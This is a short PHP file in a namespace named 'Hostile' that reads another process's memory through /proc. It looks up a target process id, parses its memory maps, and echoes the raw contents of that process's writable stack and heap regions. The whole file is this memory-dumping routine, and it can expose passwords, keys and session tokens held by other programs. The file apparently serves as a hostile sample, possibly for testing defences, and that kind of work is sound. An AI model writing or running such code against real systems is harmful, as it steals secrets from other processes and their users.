<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$process = '/proc/' . target()['pid'];
$memory = fopen("$process/mem", 'r');
foreach (file("$process/maps") ?: [] as $line) {
	if ($memory !== false && preg_match('/^([0-9a-f]+)-([0-9a-f]+) rw.*(\[stack\]|\[heap\])/', $line, $part) === 1) {
		fseek($memory, (int) hexdec($part[1]));
		echo fread($memory, (int) hexdec($part[2]) - (int) hexdec($part[1]));
	}
}
